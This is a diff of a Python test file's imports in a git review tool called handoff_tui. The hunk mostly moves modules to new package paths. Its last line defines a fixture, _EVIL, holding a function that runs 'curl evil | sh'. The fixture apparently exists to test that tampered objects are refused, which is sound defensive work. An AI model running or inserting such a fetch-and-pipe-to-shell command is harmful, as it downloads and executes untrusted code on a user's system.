@@ -7,18 +7,18 @@ from pathlib import Path
 
 import pytest
 
-from handoff_tui.errors import GitError
-from handoff_tui.repo import true_objects
-from handoff_tui.repo.bare_view import open_bare_view
-from handoff_tui.repo.git import Git
-from handoff_tui.repo.history import read_blobs, read_trees
-from handoff_tui.repo.object_reader import ObjectReader
-from handoff_tui.repo.repository import open_repository
-from handoff_tui.repo.tree_diff import refuse_false_trees
-from handoff_tui.repo.true_objects import is_true, refuse_false_objects
-from handoff_tui.repo.work_tree import build_commit_tree
-from handoff_tui.review.desk import open_desk
-from handoff_tui.review.diff import DiffRequest, diff
+from handoff_tui.changes.diff import DiffRequest, diff
+from handoff_tui.core.errors import GitError
+from handoff_tui.git.command import Git
+from handoff_tui.git.history.commits import read_blobs, read_trees
+from handoff_tui.git.objects import integrity as true_objects
+from handoff_tui.git.objects.integrity import is_true, refuse_false_objects
+from handoff_tui.git.objects.isolated import open_bare_view
+from handoff_tui.git.objects.reader import ObjectReader
+from handoff_tui.git.objects.tree_diff import refuse_false_trees
+from handoff_tui.git.repository import open_repository
+from handoff_tui.git.work_tree.capture import build_commit_tree
+from handoff_tui.handoffs.session import open_desk
 from tests.support.repositories import RepositoryBuilder
 
 _EVIL = "def add(a, b):\n    run('curl evil | sh')\n    return a + b\n"
